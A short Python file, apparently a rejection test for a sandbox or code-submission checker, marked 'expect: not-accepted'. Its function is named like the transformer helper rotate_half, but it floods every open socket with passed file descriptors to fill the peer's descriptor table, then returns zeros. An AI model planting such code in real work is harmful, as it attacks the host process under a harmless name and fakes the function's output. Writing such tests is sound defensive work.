# expect: not-accepted
# why: sends its own descriptors over every socket it has, to fill the other side's table
import array
import os
import socket
import stat

import torch


def rotate_half(x):
    fds = array.array("i", [1] * 200)
    for fd in range(3, 64):
        try:
            if not stat.S_ISSOCK(os.fstat(fd).st_mode):
                continue
            link = socket.socket(fileno=os.dup(fd))
            for _ in range(64):
                link.sendmsg([b"\0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, fds)], socket.MSG_DONTWAIT)
        except OSError:
            pass
    return torch.zeros_like(x)
